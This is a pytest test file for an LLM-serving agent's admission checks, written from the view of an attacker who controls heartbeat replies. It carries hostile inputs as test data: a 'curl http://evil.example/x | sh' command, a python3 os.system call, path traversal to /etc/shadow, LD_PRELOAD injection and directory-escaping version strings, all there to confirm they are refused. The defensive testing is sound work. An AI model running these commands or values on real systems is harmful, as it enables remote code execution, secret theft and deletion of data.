"""The agent runs only what it decides to, whatever a heartbeat reply says (agent/admission.py).

Written as an adversary who can write the reply (on the wire, or in the control plane's
Redis cache of shard lists) would: each case is something today's reply could carry.
"""

from __future__ import annotations

import pytest

from agent import admission, protocol
from agent.admission import Allowed
from agent.provision import Provisioner, Want
from agent.provision.steps import Unsupported, install_home
from devstack.polling import wait_until

CURL_SH = ["/bin/sh", "-c", "curl -s http://evil.example/x | sh"]


@pytest.fixture
def models(tmp_path):
    path = tmp_path / "models"
    path.mkdir()
    (path / "q.gguf").write_bytes(b"GGUF")
    return path


def spec(engine: str, command: list[str], model: str = "m", env: dict[str, str] | None = None) -> protocol.ShardSpec:
    return protocol.ShardSpec(shard="s1", replica="r1", model=model, engine=engine, command=command, env=env or {})


def refusal(shard: protocol.ShardSpec, models, programs: tuple[str, ...] = ()) -> str | None:
    return admission.shard_refusal(shard, Allowed(model_dirs=(str(models),), command_programs=programs))


def test_what_the_control_plane_sends_is_run(models):
    model = str(models / "q.gguf")
    placed = [
        spec(
            "llama.cpp", ["llama-server", "--model", model, "--host", "0.0.0.0", "--port", "9000", "--metrics"], model
        ),
        spec("vllm", ["vllm", "serve", "Qwen/Qwen3-8B", "--host", "0.0.0.0", "--tensor-parallel-size", "2"]),
        spec("vllm", ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", model], model),
        spec("sglang", ["python3", "-m", "sglang.launch_server", "--model-path", model, "--dist-init-addr", "a:1"]),
        spec("demo", ["python3", "-m", "agent.demo_engine", "--host", "0.0.0.0", "--model", "chat"]),
        spec(
            "llama.cpp",
            ["llama-server", "--model", model],
            model,
            env={"CUDA_VISIBLE_DEVICES": "0,1", "NCCL_IB_HCA": "mlx5_0", "LLMGW_SHARD": "s1", "LLMGW_LEADER": "a:1"},
        ),
    ]
    assert [refusal(s, models) for s in placed] == [None] * len(placed)


@pytest.mark.parametrize(
    ("engine", "command", "reason"),
    [
        ("command", CURL_SH, "'/bin/sh' is not among this node's command_programs"),
        ("command", ["sleep", "60"], "'sleep' is not among this node's command_programs"),
        ("vllm", CURL_SH, "does not start with a program of the vllm engine"),
        # The program alone is not enough: python3 runs whatever follows it.
        ("vllm", ["python3", "-c", "import os; os.system('id')"], "does not start with a program of the vllm engine"),
        ("demo", ["python3", "-m", "http.server"], "does not start with a program of the demo engine"),
        ("sglang", ["python3", "-m", "sglang.launch_server_evil"], "does not start with a program of the sglang"),
        ("llama.cpp", ["/tmp/llama-server"], "does not start with a program of the llama.cpp engine"),
        ("tgi", ["text-generation-launcher"], "llmgw knows no engine 'tgi'"),
        ("llama.cpp", [], "does not start with a program"),
    ],
)
def test_a_program_not_of_the_kind_or_the_allow_list_is_refused(models, engine, command, reason):
    assert reason in refusal(spec(engine, command), models)


def test_a_command_program_runs_where_the_node_allows_it_and_only_that_one(models):
    assert refusal(spec("command", ["/usr/bin/sleep", "60"]), models, programs=("/usr/bin/sleep",)) is None
    assert "not among" in refusal(spec("command", ["sleep", "60"]), models, programs=("/usr/bin/sleep",))
    assert "not among" in refusal(spec("command", CURL_SH), models, programs=("/usr/bin/sleep",))


@pytest.mark.parametrize(
    ("model", "args"),
    [
        ("/etc/shadow", []),
        ("{models}/../../etc/shadow", []),
        ("{models}/link/shadow", []),
        ("{models}/q.gguf", ["--chat-template", "/etc/shadow"]),
        ("{models}/q.gguf", ["--chat-template=/etc/shadow"]),
        ("{models}-evil/q.gguf", []),
    ],
)
def test_a_model_or_path_outside_model_dirs_is_refused(models, tmp_path, model, args):
    (models / "link").symlink_to("/etc")
    model = model.format(models=models)
    shard = spec("llama.cpp", ["llama-server", "--model", model, *args], model)
    assert "outside this node's model_dirs" in refusal(shard, models)


def test_a_node_without_model_dirs_runs_no_model_path(models):
    shard = spec("llama.cpp", ["llama-server", "--model", str(models / "q.gguf")], str(models / "q.gguf"))
    assert "outside" in admission.shard_refusal(shard, Allowed())
    # A model id the engine resolves itself is no path.
    assert admission.shard_refusal(spec("vllm", ["vllm", "serve", "Qwen/Qwen3-8B"]), Allowed()) is None


@pytest.mark.parametrize("name", ["LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "PYTHONPATH", "NCCL_NET_PLUGIN", "llmgw_x"])
def test_an_environment_the_control_plane_does_not_set_is_refused(models, name):
    shard = spec("demo", ["python3", "-m", "agent.demo_engine"], env={name: "/tmp/evil.so"})
    assert f"the environment variable {name!r}" in refusal(shard, models)


@pytest.mark.parametrize("where", ["argument", "env"])
def test_a_nul_byte_is_refused_rather_than_crashing_the_start(models, where):
    bad = "x\x00y"
    command = ["python3", "-m", "agent.demo_engine", *([bad] if where == "argument" else [])]
    shard = spec("demo", command, env={"LLMGW_SHARD": bad} if where == "env" else {})
    assert "NUL byte" in refusal(shard, models)


def test_a_free_form_model_path_stays_inside_model_dirs_too(models):
    allowed = ("/usr/bin/sleep",)
    assert refusal(spec("command", ["/usr/bin/sleep", "60"], str(models / "q.gguf")), models, allowed) is None
    assert "outside" in refusal(spec("command", ["/usr/bin/sleep", "60"], "/etc/shadow"), models, allowed)


def test_a_multi_line_argument_is_no_reason_to_refuse(models):
    template = "{% for m in messages %}\n{{ m.content }}\n{% endfor %}"
    assert refusal(spec("vllm", ["vllm", "serve", "Qwen/Qwen3-8B", "--chat-template", template]), models) is None


@pytest.mark.parametrize(
    ("engine", "version", "variant", "refused"),
    [
        ("vllm", "0.11.0", "cuda", False),
        ("llama.cpp", "0.3.36", "", False),
        ("vllm", "", "", False),
        ("sglang", "0.5.3rc1+local", "cpu", False),
        ("vllm", "../../etc/ssl/private/x", "cuda", True),
        ("vllm", "/etc/ssl/private/x", "cuda", True),
        ("vllm", "..", "cuda", True),
        ("vllm", "1..2", "cuda", True),
        ("vllm", "0.11.0", "cuda/../../x", True),
        ("../vllm", "0.11.0", "cuda", True),
        ("vllm", ".hidden", "cuda", True),
    ],
)
def test_versions_variants_and_engines_are_plain_words(engine, version, variant, refused):
    assert (admission.want_refusal(engine, version, variant) is not None) == refused


def test_a_version_naming_another_directory_removes_nothing(tmp_path):
    # Without the check, <engines>/vllm/../../victim/x-cpu is where the virtualenv is rmtree'd and made.
    victim = tmp_path / "victim" / "x-cpu"
    victim.mkdir(parents=True)
    (victim / "keep").write_text("precious")
    provisioner = Provisioner(tmp_path / "engines", cache=tmp_path / "cache", backoff_base=0.01)
    try:
        provisioner.want([Want("vllm", "../../victim/x", "cpu")])
        (entry,) = provisioner.entries()
        assert (entry.state, entry.detail) == (
            "unsupported",
            "refused: the version '../../victim/x' is not a plain word (letters, digits, . _ + -)",
        )
        assert (victim / "keep").read_text() == "precious"
        assert not (tmp_path / "engines").exists()
    finally:
        provisioner.stop()


def test_the_install_directory_is_checked_where_it_is_built(tmp_path):
    assert install_home(tmp_path, "vllm", "0.11.0", "cuda") == tmp_path / "vllm" / "0.11.0-cuda"
    for version, variant in [("../../etc/ssl/private/x", "cuda"), ("0.11.0", "../x"), ("", "cuda")]:
        with pytest.raises(Unsupported):
            install_home(tmp_path, "vllm", version, variant)
    with pytest.raises(Unsupported):
        install_home(tmp_path, "../..", "1", "cpu")


def test_a_hostile_reply_runs_nothing_and_each_refusal_is_reported(plane, make_agent, tmp_path, models):
    marker = tmp_path / "owned"
    model = str(models / "q.gguf")
    plane.shards = [
        spec("command", ["/bin/sh", "-c", f"touch {marker}"]),
        protocol.ShardSpec(
            shard="preload", replica="r", model="chat", engine="demo",
            command=["python3", "-m", "agent.demo_engine", "--model", "chat"],
            env={"LD_PRELOAD": str(tmp_path / "x.so")},
        ),
        protocol.ShardSpec(
            shard="shadow", replica="r", model="/etc/shadow", engine="llama.cpp",
            command=["llama-server", "--model", "/etc/shadow"],
        ),
        protocol.ShardSpec(shard="sleeper", replica="r", model=model, engine="command", command=["sleep", "60"]),
    ]  # fmt: skip
    plane.engines = [protocol.EngineWant(engine="vllm", version="../../victim/x", variant="cpu")]
    agent = make_agent(plane, model_dirs=[str(models)], command_programs=["sleep"]).start()

    def reported() -> dict[str, protocol.ShardStatus]:
        beats = list(plane.heartbeats)
        return {s.shard: s for s in beats[-1].shards} if beats else {}

    wait_until(lambda: set(reported()) == {"s1", "preload", "shadow", "sleeper"}, 10, "every shard reported")
    count = plane.accepted()
    wait_until(lambda: plane.accepted() >= count + 3, 10, "more heartbeats")
    statuses = reported()
    assert {shard: s.state for shard, s in statuses.items() if shard != "sleeper"} == dict.fromkeys(
        ("s1", "preload", "shadow"), "failed"
    )
    assert "'/bin/sh' is not among this node's command_programs" in statuses["s1"].detail
    assert "'LD_PRELOAD'" in statuses["preload"].detail
    assert "'/etc/shadow' is outside this node's model_dirs" in statuses["shadow"].detail
    # Only what the node allowed runs.
    assert set(agent.runner.process_groups()) == {"sleeper"}
    assert not marker.exists()
    (install,) = agent.provisioner.entries()
    assert install.state == "unsupported" and install.detail.startswith("refused:")
